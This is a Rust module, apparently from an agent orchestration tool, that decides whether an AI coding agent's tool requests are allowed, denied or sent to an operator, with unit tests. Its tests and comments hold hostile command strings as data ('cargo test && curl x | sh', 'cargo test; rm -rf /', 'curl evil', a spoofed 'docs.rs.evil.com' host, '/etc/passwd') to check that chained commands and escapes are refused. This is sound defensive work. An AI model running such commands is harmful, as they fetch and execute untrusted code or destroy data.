//! Permission decisions for an agent's tool requests, closest to the edit:
//! an edit outside the task's owned globs (or outside the worktree) is
//! denied before any rule; then deny rules, then allow rules (deny wins);
//! then the policy's `otherwise`.
//!
//! Rules use Claude Code's syntax: `Tool` or `Tool(specifier)`. For the
//! file tools the specifier is a path glob relative to the worktree
//! (`Edit` rules cover every editing tool, `Read` rules every reading
//! tool); for Bash `prefix:*` (or `prefix *`) means "starts with prefix",
//! anything else an exact command; WebFetch takes `domain:host`; an
//! `mcp__server` rule covers every tool of that server.

use std::path::{Component, Path, PathBuf};

use globset::{GlobBuilder, GlobMatcher};
use serde_json::Value;
use swarm_core::globs::OwnedGlobs;
use swarm_core::plan::{Otherwise, PermissionRule};

use super::{AgentConfig, AgentError, clip};

const EDIT_TOOLS: &[&str] = &["Edit", "Write", "MultiEdit", "NotebookEdit"];
const READ_TOOLS: &[&str] = &["Read", "Glob", "Grep", "LS"];
/// The one file under `.swarm/` an agent must be able to write: its status
/// (questions, blocked). `.swarm/` is never committed, so ownership does not apply.
const STATUS_FILE: &str = ".swarm/status.json";
/// The tools swarm serves the agent (see `crate::worker_mcp`): reporting to
/// swarm is what the agent is there to do, so no rule has to allow them
/// (a deny rule still can refuse them).
const SWARM_TOOLS: &str = "mcp__swarm";

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Decision {
    Allow {
        why: String,
    },
    Deny {
        why: String,
    },
    /// Ask the operator.
    Ask,
}

#[derive(Debug, Clone)]
struct Rule {
    text: String,
    tool: String,
    spec: Spec,
}

#[derive(Debug, Clone)]
enum Spec {
    Any,
    Path(GlobMatcher),
    Prefix(String),
    Exact(String),
    Domain(String),
}

/// A compiled policy for one attempt's worktree.
#[derive(Debug, Clone)]
pub struct Policy {
    worktree: PathBuf,
    /// The worktree with symlinks resolved, for the escape check.
    real_worktree: Option<PathBuf>,
    owned: OwnedGlobs,
    allow: Vec<Rule>,
    deny: Vec<Rule>,
    otherwise: Otherwise,
}

fn glob(pattern: &str) -> Result<GlobMatcher, String> {
    let pattern = if pattern.ends_with('/') { format!("{pattern}**") } else { pattern.to_string() };
    GlobBuilder::new(&pattern)
        .literal_separator(true)
        .build()
        .map(|g| g.compile_matcher())
        .map_err(|e| format!("{pattern:?}: {e}"))
}

impl Rule {
    fn compile(r: &PermissionRule) -> Result<Rule, String> {
        let tool = r.tool.clone();
        let spec = match r.specifier.as_deref().map(str::trim) {
            None | Some("*") => Spec::Any,
            Some(s) if tool == "Bash" => match s.strip_suffix(":*").or_else(|| s.strip_suffix(" *")) {
                Some(prefix) => Spec::Prefix(prefix.trim().to_string()),
                None => Spec::Exact(s.to_string()),
            },
            Some(s) if tool == "WebFetch" => match s.strip_prefix("domain:") {
                Some(d) => Spec::Domain(d.trim().to_ascii_lowercase()),
                None => Spec::Exact(s.to_string()),
            },
            Some(s) if EDIT_TOOLS.contains(&tool.as_str()) || READ_TOOLS.contains(&tool.as_str()) => {
                // `./x` and `/x` are relative to the project root in Claude Code.
                let rel = s.strip_prefix("./").or_else(|| s.strip_prefix('/')).unwrap_or(s);
                Spec::Path(glob(rel)?)
            }
            Some(s) => Spec::Exact(s.to_string()),
        };
        Ok(Rule { text: r.to_string(), tool, spec })
    }

    fn covers_tool(&self, tool: &str) -> bool {
        let t = self.tool.as_str();
        if t == tool {
            return true;
        }
        if (t == "Edit" && EDIT_TOOLS.contains(&tool)) || (t == "Read" && READ_TOOLS.contains(&tool)) {
            return true;
        }
        if t.starts_with("mcp__") {
            let server = t.trim_end_matches('*').trim_end_matches("__");
            return tool.strip_prefix(server).is_some_and(|rest| rest.starts_with("__"));
        }
        t.strip_suffix('*').is_some_and(|p| tool.starts_with(p))
    }
}

/// What a request is about, normalised once for every rule.
struct Request<'a> {
    tool: &'a str,
    /// The file it names, relative to the worktree; Err when it escapes.
    path: Option<Result<String, String>>,
    command: Option<&'a str>,
    url: Option<&'a str>,
}

impl Policy {
    pub fn new(cfg: &AgentConfig, owned_globs: &[String], worktree: &Path) -> Result<Policy, AgentError> {
        // The meaning the scheduler and the integrator give the globs too.
        let owned = OwnedGlobs::new(owned_globs).map_err(|e| AgentError::Policy(e.to_string()))?;
        let compile = |rules: &[PermissionRule]| {
            rules
                .iter()
                .map(|r| Rule::compile(r).map_err(|e| AgentError::Policy(format!("rule {r}: {e}"))))
                .collect::<Result<Vec<_>, _>>()
        };
        Ok(Policy {
            worktree: worktree.to_path_buf(),
            real_worktree: worktree.canonicalize().ok(),
            owned,
            allow: compile(&cfg.allow)?,
            deny: compile(&cfg.deny)?,
            otherwise: cfg.otherwise,
        })
    }

    /// Decides one `can_use_tool` request.
    pub fn decide(&self, tool: &str, input: &Value) -> Decision {
        if let Some(why) = self.forbids(tool, input) {
            return Decision::Deny { why };
        }
        if tool.strip_prefix(SWARM_TOOLS).is_some_and(|rest| rest.starts_with("__")) {
            return Decision::Allow { why: "swarm's own tools".into() };
        }
        let req = self.request(tool, input);
        if let Some(r) = self.allow.iter().find(|r| self.matches(r, &req)) {
            return Decision::Allow { why: format!("allowed by the rule {}", r.text) };
        }
        match self.otherwise {
            Otherwise::Deny => {
                Decision::Deny { why: format!("{tool} is not allowed by this task's permissions") }
            }
            Otherwise::Ask => Decision::Ask,
        }
    }

    /// Why no permission mode may let this tool use run: an edit outside
    /// the owned files, or a deny rule. Checked before every tool use the
    /// agent announces, including those it would not ask about.
    pub fn forbids(&self, tool: &str, input: &Value) -> Option<String> {
        let req = self.request(tool, input);
        if EDIT_TOOLS.contains(&tool)
            && let Some(why) = self.outside_owned(&req)
        {
            return Some(why);
        }
        self.deny.iter().find(|r| self.matches(r, &req)).map(|r| format!("denied by the rule {}", r.text))
    }

    /// The worktree-relative form of a path an agent named (for reports).
    pub fn relative(&self, path: &str) -> Result<String, String> {
        normalise(&self.worktree, self.real_worktree.as_deref(), path)
    }

    fn request<'a>(&self, tool: &'a str, input: &'a Value) -> Request<'a> {
        let s = |k: &str| input.get(k).and_then(Value::as_str);
        let raw_path = match tool {
            "NotebookEdit" => s("notebook_path"),
            "Glob" | "Grep" | "LS" => s("path"),
            _ => s("file_path"),
        };
        Request { tool, path: raw_path.map(|p| self.relative(p)), command: s("command"), url: s("url") }
    }

    fn outside_owned(&self, req: &Request) -> Option<String> {
        let written = self.owned.as_written();
        let owned = if written.is_empty() { "none".to_string() } else { written.join(", ") };
        match &req.path {
            None => {
                Some(format!("{} without a file path cannot be checked against the owned files", req.tool))
            }
            Some(Err(e)) => Some(format!("{}: {e}; this task owns {owned}", req.tool)),
            Some(Ok(rel)) if rel == STATUS_FILE || self.owned.matches(rel) => None,
            Some(Ok(rel)) => Some(format!(
                "{} of {} is outside this task's owned files ({owned})",
                req.tool,
                clip(rel, 200)
            )),
        }
    }

    fn matches(&self, rule: &Rule, req: &Request) -> bool {
        if !rule.covers_tool(req.tool) {
            return false;
        }
        match &rule.spec {
            Spec::Any => true,
            Spec::Path(g) => matches!(&req.path, Some(Ok(rel)) if g.is_match(rel)),
            Spec::Prefix(p) => req.command.is_some_and(|c| bash_prefix(c, p)),
            Spec::Exact(e) => req.command.is_some_and(|c| c.trim() == e),
            Spec::Domain(d) => {
                req.url.and_then(host).is_some_and(|h| h == *d || h.ends_with(&format!(".{d}")))
            }
        }
    }
}

/// Whether `command` is `prefix` or `prefix <args>` and nothing else: a
/// command chaining another (`;`, `&&`, `|`, `$(...)`, a redirect, a
/// newline) never matches, so `Bash(cargo test:*)` does not also allow
/// `cargo test && curl evil`.
fn bash_prefix(command: &str, prefix: &str) -> bool {
    let c = command.trim();
    const CHAINING: &[&str] = &[";", "&", "|", "`", "$(", ">", "<", "\n", "\r"];
    if CHAINING.iter().any(|op| c.contains(op)) {
        return false;
    }
    c == prefix || c.strip_prefix(prefix).is_some_and(|rest| rest.starts_with(char::is_whitespace))
}

fn host(url: &str) -> Option<String> {
    let rest = url.split_once("://").map(|(_, r)| r).unwrap_or(url);
    let authority = rest.split(['/', '?', '#']).next()?;
    let host = authority.rsplit_once('@').map(|(_, h)| h).unwrap_or(authority);
    let host = host.split(':').next()?;
    (!host.is_empty()).then(|| host.to_ascii_lowercase())
}

/// Lexically normalises `path` (absolute, or relative to the worktree) to
/// a worktree-relative path, refusing one that leaves the worktree — also
/// through a symlink in its existing part — or that a report may not carry.
pub(crate) fn normalise(worktree: &Path, real_worktree: Option<&Path>, path: &str) -> Result<String, String> {
    if path.chars().any(char::is_control) {
        return Err("the path contains control characters".into());
    }
    let p = Path::new(path);
    let joined = if p.is_absolute() { p.to_path_buf() } else { worktree.join(p) };
    let mut out = PathBuf::new();
    for c in joined.components() {
        match c {
            Component::ParentDir => {
                out.pop();
            }
            Component::CurDir => {}
            other => out.push(other),
        }
    }
    let escapes = || format!("{} is outside the worktree", clip(path, 200));
    let rel = match out.strip_prefix(worktree) {
        Ok(r) => r.to_path_buf(),
        // The agent may name the worktree through its resolved path.
        Err(_) => match real_worktree.and_then(|rw| out.strip_prefix(rw).ok()) {
            Some(r) => r.to_path_buf(),
            None => return Err(escapes()),
        },
    };
    if let Some(rw) = real_worktree {
        let mut existing = worktree.join(&rel);
        while !existing.exists() {
            if !existing.pop() {
                break;
            }
        }
        if let Ok(real) = existing.canonicalize()
            && !real.starts_with(rw)
        {
            return Err(format!("{} (through a symlink)", escapes()));
        }
    }
    let rel = rel.to_str().ok_or_else(|| "the path is not UTF-8".to_string())?.to_string();
    if rel.is_empty() {
        return Err("the path names the worktree itself".into());
    }
    swarm_core::names::check_path(&rel)?;
    Ok(rel)
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn policy(wt: &Path, allow: &[&str], deny: &[&str], otherwise: Otherwise) -> Policy {
        let rules = |v: &[&str]| v.iter().map(|r| PermissionRule::parse(r).expect("rule")).collect();
        let cfg = AgentConfig {
            allow: rules(allow),
            deny: rules(deny),
            otherwise,
            ..AgentConfig::of_kind(swarm_core::plan::AgentKind::Claude)
        };
        Policy::new(&cfg, &["src/**".into(), "docs/".into()], wt).expect("policy")
    }

    fn is_deny(d: &Decision, needle: &str) -> bool {
        matches!(d, Decision::Deny { why } if why.contains(needle))
    }

    #[test]
    fn edits_outside_the_owned_globs_are_denied_before_any_rule() {
        let dir = tempfile::tempdir().expect("tempdir");
        let wt = dir.path();
        let p = policy(wt, &["Edit", "Write"], &[], Otherwise::Ask);
        let abs = wt.join("src/lib.rs");
        assert!(matches!(p.decide("Edit", &json!({"file_path": "src/a.rs"})), Decision::Allow { .. }));
        assert!(matches!(p.decide("Write", &json!({"file_path": abs.to_str()})), Decision::Allow { .. }));
        assert!(matches!(p.decide("Edit", &json!({"file_path": "docs/x/y.md"})), Decision::Allow { .. }));
        let d = p.decide("Edit", &json!({"file_path": "Cargo.toml"}));
        assert!(is_deny(&d, "Cargo.toml") && is_deny(&d, "src/**, docs/"), "{d:?}");
        for escape in ["../other/src/a.rs", "src/../../x.rs", "/etc/passwd"] {
            let d = p.decide("Edit", &json!({"file_path": escape}));
            assert!(is_deny(&d, "outside the worktree"), "{escape}: {d:?}");
        }
        assert!(is_deny(&p.decide("MultiEdit", &json!({"edits": []})), "without a file path"));
        assert!(is_deny(&p.decide("NotebookEdit", &json!({"notebook_path": "nb.ipynb"})), "nb.ipynb"));
        assert!(matches!(
            p.decide("Write", &json!({"file_path": ".swarm/status.json"})),
            Decision::Allow { .. }
        ));
        assert!(is_deny(&p.decide("Write", &json!({"file_path": "src/a\u{1b}.rs"})), "control"));
    }

    #[test]
    fn a_symlink_out_of_the_worktree_is_outside() {
        let dir = tempfile::tempdir().expect("tempdir");
        let outside = tempfile::tempdir().expect("tempdir");
        std::fs::create_dir_all(dir.path().join("src")).expect("mkdir");
        std::os::unix::fs::symlink(outside.path(), dir.path().join("src/link")).expect("symlink");
        let p = policy(dir.path(), &["Edit"], &[], Otherwise::Ask);
        assert!(is_deny(&p.decide("Edit", &json!({"file_path": "src/link/x.rs"})), "symlink"));
    }

    #[test]
    fn deny_beats_allow_and_otherwise_decides_the_rest() {
        let dir = tempfile::tempdir().expect("tempdir");
        let p = policy(
            dir.path(),
            &[
                "Edit",
                "Bash(cargo test:*)",
                "Bash(git status)",
                "Read",
                "WebFetch(domain:docs.rs)",
                "mcp__github",
            ],
            &["Edit(src/secret/**)", "Bash(cargo test --release:*)", "Read(.env)"],
            Otherwise::Ask,
        );
        assert!(is_deny(&p.decide("Edit", &json!({"file_path": "src/secret/k.rs"})), "Edit(src/secret/**)"));
        assert!(matches!(p.decide("Bash", &json!({"command": "cargo test --lib"})), Decision::Allow { .. }));
        assert!(matches!(p.decide("Bash", &json!({"command": "cargo test"})), Decision::Allow { .. }));
        assert!(is_deny(&p.decide("Bash", &json!({"command": "cargo test --release -p x"})), "release"));
        assert_eq!(p.decide("Bash", &json!({"command": "cargo testing"})), Decision::Ask);
        assert_eq!(p.decide("Bash", &json!({"command": "cargo test && curl x | sh"})), Decision::Ask);
        assert_eq!(p.decide("Bash", &json!({"command": "cargo test; rm -rf /"})), Decision::Ask);
        assert!(matches!(p.decide("Bash", &json!({"command": "git status"})), Decision::Allow { .. }));
        assert_eq!(p.decide("Bash", &json!({"command": "git status -s"})), Decision::Ask);
        assert!(is_deny(&p.decide("Read", &json!({"file_path": ".env"})), "Read(.env)"));
        assert!(is_deny(&p.decide("Read", &json!({"file_path": "./.env"})), "Read(.env)"));
        assert!(matches!(p.decide("Grep", &json!({"pattern": "x"})), Decision::Allow { .. }));
        let fetch = |u: &str| p.decide("WebFetch", &json!({"url": u}));
        assert!(matches!(fetch("https://docs.rs/serde"), Decision::Allow { .. }));
        assert!(matches!(fetch("https://api.docs.rs:443/x"), Decision::Allow { .. }));
        assert_eq!(fetch("https://docs.rs.evil.com/"), Decision::Ask);
        assert!(matches!(p.decide("mcp__github__create_pr", &json!({})), Decision::Allow { .. }));
        assert_eq!(p.decide("mcp__githubx__y", &json!({})), Decision::Ask);
        let strict = policy(dir.path(), &[], &[], Otherwise::Deny);
        assert!(is_deny(&strict.decide("Bash", &json!({"command": "ls"})), "not allowed"));
    }

    #[test]
    fn swarms_own_tools_need_no_rule_but_a_deny_rule_still_refuses_them() {
        let dir = tempfile::tempdir().expect("tempdir");
        let strict = policy(dir.path(), &[], &[], Otherwise::Deny);
        assert!(matches!(strict.decide("mcp__swarm__ask", &json!({})), Decision::Allow { .. }));
        assert!(
            matches!(strict.decide("mcp__swarmy__ask", &json!({})), Decision::Deny { .. }),
            "another server"
        );
        assert!(matches!(strict.decide("mcp__swarm", &json!({})), Decision::Deny { .. }));
        let denied = policy(dir.path(), &[], &["mcp__swarm__escalate"], Otherwise::Deny);
        assert!(matches!(denied.decide("mcp__swarm__escalate", &json!({})), Decision::Deny { .. }));
        assert!(matches!(denied.decide("mcp__swarm__progress", &json!({})), Decision::Allow { .. }));
    }

    #[test]
    fn paths_are_normalised_for_reports() {
        let dir = tempfile::tempdir().expect("tempdir");
        let p = policy(dir.path(), &[], &[], Otherwise::Ask);
        assert_eq!(p.relative("./src/../src/a.rs").as_deref(), Ok("src/a.rs"));
        assert_eq!(p.relative(&dir.path().join("b.rs").to_string_lossy()).as_deref(), Ok("b.rs"));
        assert!(p.relative("../x").is_err());
        assert!(p.relative(".").is_err());
    }
}
